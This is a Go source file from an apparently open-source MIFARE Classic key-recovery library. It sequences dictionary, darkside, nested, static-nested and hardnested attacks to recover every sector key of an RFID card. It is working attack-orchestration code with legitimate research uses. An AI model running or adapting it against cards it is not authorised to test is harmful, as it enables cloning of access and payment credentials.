// mfckey
// Copyright (c) 2026 The mfckey Contributors.
// SPDX-License-Identifier: LGPL-3.0-or-later
//
// This file is part of mfckey.
//
// mfckey is free software; you can redistribute it and/or
// modify it under the terms of the GNU Lesser General Public
// License as published by the Free Software Foundation; either
// version 3 of the License, or (at your option) any later version.
//
// mfckey is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU
// Lesser General Public License for more details.
//
// You should have received a copy of the GNU Lesser General Public License
// along with mfckey; if not, write to the Free Software Foundation,
// Inc., 51 Franklin Street, Fifth Floor, Boston, MA  02110-1301, USA.

// Package autopwn sequences the dictionary, darkside, nested, hardnested
// and static-nested attacks into the full key-recovery pipeline (spec
// section 4.10): one function per phase, a typed Result instead of a
// sentinel exit code, and cancellation handled the same way at every
// phase boundary.
package autopwn

import (
	"context"

	"github.com/keyforge/mfckey"
	"github.com/keyforge/mfckey/attack"
	"github.com/keyforge/mfckey/attack/hardnested"
	"github.com/keyforge/mfckey/ckerr"
	"github.com/keyforge/mfckey/keytable"
	"github.com/keyforge/mfckey/profile"
)

// LegacyKSlowFallthrough documents the open question over the original
// argument parser's suspicious `'k'`-into-`'s'` fallthrough (spec section
// 9): off by default, so `-k` and `-s` are independent here. Set to true,
// it makes Run turn Slow on whenever a KnownKey is given, which is the
// original's coupling.
const LegacyKSlowFallthrough = false

// KnownKey is the user-supplied starting key for the known-key-intake
// phase.
type KnownKey struct {
	Sector  int
	KeyType mfckey.KeyType
	Key     keytable.Key
}

// Options configures one autopwn run.
type Options struct {
	Profile        profile.Profile
	KnownKey       *KnownKey
	DictionaryPath string
	Slow           bool
	Legacy         bool
	SIMD           hardnested.SIMDWidth
	// RemoteAcquisition, when non-empty, is a websocket URL for a second
	// machine's reader that the hardnested fallback pulls its nonce
	// acquisition from instead of dev (spec section 4.8's acquisition
	// step only cares that the samples are self-consistent, not which
	// reader collected them).
	RemoteAcquisition string
}

// Result is what one autopwn run produces: the key table (however
// complete), whether it was cut short, and the PRNG class the probe
// phase found — useful context for a caller deciding whether to retry.
type Result struct {
	Table     *keytable.Table
	Partial   bool
	PRNGClass mfckey.PRNGClass
}

type keyTypeEntry struct {
	idx keytable.KeyIndex
	t   mfckey.KeyType
}

var keyTypes = []keyTypeEntry{{keytable.A, mfckey.KeyTypeA}, {keytable.B, mfckey.KeyTypeB}}

func cancelled(ctx context.Context) bool {
	select {
	case <-ctx.Done():
		return true
	default:
		return false
	}
}

// Run executes the full pipeline against dev and returns whatever the
// key table holds when it finishes or is cancelled.
func Run(ctx context.Context, dev *mfckey.Device, opts Options) (*Result, error) {
	if LegacyKSlowFallthrough && opts.KnownKey != nil {
		opts.Slow = true
	}
	table := keytable.New(opts.Profile.Sectors())
	res := &Result{Table: table}

	// Phase 0: identify the card so the reuse-propagation cache can be
	// keyed on it; see CardFingerprint.
	card, err := dev.Select()
	if err != nil {
		return res, err
	}
	fp := mfckey.NewCardFingerprint(card)

	// Phase 1: probe.
	isStatic, err := dev.DetectPRNGStatic()
	if err != nil {
		return res, err
	}
	class := mfckey.PRNGStatic
	if !isStatic {
		class, err = dev.DetectPRNGWeak()
		if err != nil {
			return res, err
		}
	}
	res.PRNGClass = class
	if cancelled(ctx) {
		res.Partial = true
		return res, nil
	}

	// Phase 2: known-key intake.
	if opts.KnownKey != nil {
		kk := opts.KnownKey
		block := byte(opts.Profile.FirstBlockOf(kk.Sector))
		if err := dev.Authenticate(block, kk.KeyType, [6]byte(kk.Key)); err == nil {
			_ = table.Set(kk.Sector, indexOf(kk.KeyType), kk.Key, keytable.SourceUser)
			propagate(ctx, dev, table, opts.Profile, fp, kk.Key)
		}
	}
	if cancelled(ctx) {
		res.Partial = true
		return res, nil
	}

	// Phase 3: dictionary, seeded with whatever this card has yielded in
	// earlier runs this session.
	dictKeys := attack.MergeDictionary(sessionKeysFor(fp))
	if opts.DictionaryPath != "" {
		if userKeys, _, err := attack.LoadDictionary(opts.DictionaryPath); err == nil {
			dictKeys = attack.MergeDictionary(append(sessionKeysFor(fp), userKeys...))
		}
	}
	if opts.Legacy {
		attack.RunLegacyCheck(ctx, dev, table, opts.Profile, dictKeys) //nolint:errcheck
	} else {
		attack.RunFastCheck(ctx, dev, table, dictKeys, mfckey.StrategyDepth)   //nolint:errcheck
		attack.RunFastCheck(ctx, dev, table, dictKeys, mfckey.StrategyBreadth) //nolint:errcheck
	}
	if key, ok := anyFoundKey(table); ok {
		propagate(ctx, dev, table, opts.Profile, fp, key)
	}
	if cancelled(ctx) {
		res.Partial = true
		return res, nil
	}

	// attackCandidates is the pool nested, hardnested and static-nested
	// search in Phase 5: dictKeys plus ExtendedKeys, a tier RunFastCheck
	// never consults, so these attacks are not limited to re-verifying a
	// dictionary Phase 3 has already exhausted against every sector.
	attackCandidates := attack.MergeAttackCandidates(dictKeys)

	// Phase 4: darkside bootstrap, only if nothing is known yet.
	if table.CountFound() == 0 && class == mfckey.PRNGWeak {
		outcome := attack.RunDarkside(ctx, dev, byte(opts.Profile.FirstBlockOf(0)), mfckey.KeyTypeA)
		switch outcome.Status {
		case attack.StatusFound:
			_ = table.Set(0, keytable.A, outcome.Key, keytable.SourceDarkside)
			propagate(ctx, dev, table, opts.Profile, fp, outcome.Key)
		case attack.StatusAborted:
			res.Partial = true
			return res, nil
		}
	}
	if cancelled(ctx) {
		res.Partial = true
		return res, nil
	}

	// Phase 5: per-sector loop.
	for s := 0; s < table.Sectors(); s++ {
		for _, kt := range keyTypes {
			if cancelled(ctx) {
				res.Partial = true
				return res, nil
			}
			if table.Get(s).Found(kt.idx) {
				continue
			}

			block := byte(opts.Profile.FirstBlockOf(s))

			if key, ok := anyFoundKey(table); ok {
				if err := dev.Authenticate(block, kt.t, [6]byte(key)); err == nil {
					_ = table.Set(s, kt.idx, key, keytable.SourceReused)
					continue
				}
			}

			if kt.idx == keytable.B && table.Get(s).Found(keytable.A) {
				if b, ok := readBFromTrailer(dev, opts.Profile, s, table.Get(s).Key(keytable.A)); ok {
					_ = table.Set(s, keytable.B, b, keytable.SourceKeyARead)
					continue
				}
			}

			outcome := runSectorAttack(ctx, dev, opts, table, class, s, kt, attackCandidates)
			switch outcome.Status {
			case attack.StatusFound:
				_ = table.Set(s, kt.idx, outcome.Key, sourceFor(class))
				propagate(ctx, dev, table, opts.Profile, fp, outcome.Key)
			case attack.StatusAborted:
				res.Partial = true
				return res, nil
			}
		}
	}

	res.Partial = table.AnyUnknown()
	return res, nil
}

func runSectorAttack(
	ctx context.Context, dev *mfckey.Device, opts Options, table *keytable.Table,
	class mfckey.PRNGClass, sector int, kt keyTypeEntry, candidates []keytable.Key,
) attack.Outcome {
	targetBlock := byte(opts.Profile.FirstBlockOf(sector))
	knownBlock, knownKeyType, knownKey, hasKnown := anyFoundAnchor(table, opts.Profile)

	switch class {
	case mfckey.PRNGStatic:
		if !hasKnown {
			return attack.NotVulnerable(ckerr.WhyStaticMismatch)
		}
		return attack.RunStaticNested(ctx, dev, knownBlock, knownKeyType, knownKey, targetBlock, kt.t, candidates)

	case mfckey.PRNGWeak:
		if !hasKnown {
			return attack.NotVulnerable(ckerr.WhyPrngUnpredictable)
		}
		outcome := attack.RunNested(ctx, dev, knownBlock, knownKeyType, knownKey, targetBlock, kt.t, candidates, opts.Slow)
		if outcome.Status != attack.StatusNotVulnerable {
			return outcome
		}
		fallthrough

	default: // PRNGHardened, or nested gave up and fell through
		if !hasKnown {
			return attack.NotVulnerable(ckerr.WhyPrngUnpredictable)
		}
		if opts.RemoteAcquisition != "" {
			return hardnested.RunRemote(ctx, dev, opts.RemoteAcquisition, knownBlock, knownKeyType, knownKey, targetBlock, kt.t, candidates, nil, opts.Slow)
		}
		return hardnested.Run(ctx, dev, knownBlock, knownKeyType, knownKey, targetBlock, kt.t, candidates, nil, opts.Slow)
	}
}

func indexOf(t mfckey.KeyType) keytable.KeyIndex {
	if t == mfckey.KeyTypeB {
		return keytable.B
	}
	return keytable.A
}

func sourceFor(class mfckey.PRNGClass) keytable.Source {
	switch class {
	case mfckey.PRNGStatic:
		return keytable.SourceStaticNested
	case mfckey.PRNGWeak:
		return keytable.SourceNested
	default:
		return keytable.SourceHardnested
	}
}

// anyFoundKey returns any key the table already holds, for propagation.
func anyFoundKey(table *keytable.Table) (keytable.Key, bool) {
	for s := 0; s < table.Sectors(); s++ {
		e := table.Get(s)
		if e.Found(keytable.A) {
			return e.Key(keytable.A), true
		}
		if e.Found(keytable.B) {
			return e.Key(keytable.B), true
		}
	}
	return keytable.Key{}, false
}

// anyFoundAnchor returns a (block, keyType, key) triple the nested family
// of attacks can authenticate with as their "known" side.
func anyFoundAnchor(table *keytable.Table, prof profile.Profile) (byte, mfckey.KeyType, keytable.Key, bool) {
	for s := 0; s < table.Sectors(); s++ {
		e := table.Get(s)
		block := byte(prof.FirstBlockOf(s))
		if e.Found(keytable.A) {
			return block, mfckey.KeyTypeA, e.Key(keytable.A), true
		}
		if e.Found(keytable.B) {
			return block, mfckey.KeyTypeB, e.Key(keytable.B), true
		}
	}
	return 0, 0, keytable.Key{}, false
}

// propagate re-authenticates key against every still-unknown sector/key
// type, the single-key breadth sweep spec section 4.5 calls reuse
// propagation, and retains it in fp's session cache for future Run calls
// against the same card.
func propagate(ctx context.Context, dev *mfckey.Device, table *keytable.Table, prof profile.Profile, fp mfckey.CardFingerprint, key keytable.Key) {
	sessionRemember(fp, key)
	for s := 0; s < table.Sectors(); s++ {
		if cancelled(ctx) {
			return
		}
		block := byte(prof.FirstBlockOf(s))
		for _, kt := range keyTypes {
			if table.Get(s).Found(kt.idx) {
				continue
			}
			if err := dev.Authenticate(block, kt.t, [6]byte(key)); err == nil {
				_ = table.Set(s, kt.idx, key, keytable.SourceReused)
			}
		}
	}
}

// readBFromTrailer reads sector's trailer with the already-recovered Key
// A and extracts Key B when the trailer's access bits are well formed and
// let Key A read Key B: C1C2C3 rows 000, 010 and 001 of the standard
// trailer table (spec section 4.10 step 5, S5).
func readBFromTrailer(dev *mfckey.Device, prof profile.Profile, sector int, keyA keytable.Key) (keytable.Key, bool) {
	trailerBlock := byte(prof.FirstBlockOf(sector) + prof.BlocksOf(sector) - 1)
	data, err := dev.ReadBlock(trailerBlock, mfckey.KeyTypeA, [6]byte(keyA))
	if err != nil {
		return keytable.Key{}, false
	}
	var trailerBytes [4]byte
	copy(trailerBytes[:], data[6:10])
	acs, valid := profile.DecodeTrailerBytes(trailerBytes)
	if ac := acs[3]; !valid || ac.C1 || (ac.C2 && ac.C3) {
		return keytable.Key{}, false
	}
	var b keytable.Key
	copy(b[:], data[10:16])
	return b, true
}
